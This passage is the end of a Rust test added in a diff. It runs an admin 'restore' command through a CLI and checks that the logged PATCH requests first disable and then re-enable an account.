+    let out = arm.cadet(ADMIN, &["restore", &run]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let log: Vec<Value> = std::fs::read_to_string(&arm.log)
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    let patches: Vec<&Value> = log
+        .iter()
+        .filter(|v| v["method"] == "PATCH")
+        .map(|v| &v["body"])
+        .collect();
+    assert_eq!(
+        patches,
+        vec![
+            &json!({ "accountEnabled": false }),
+            &json!({ "accountEnabled": true })
+        ]
+    );
+}
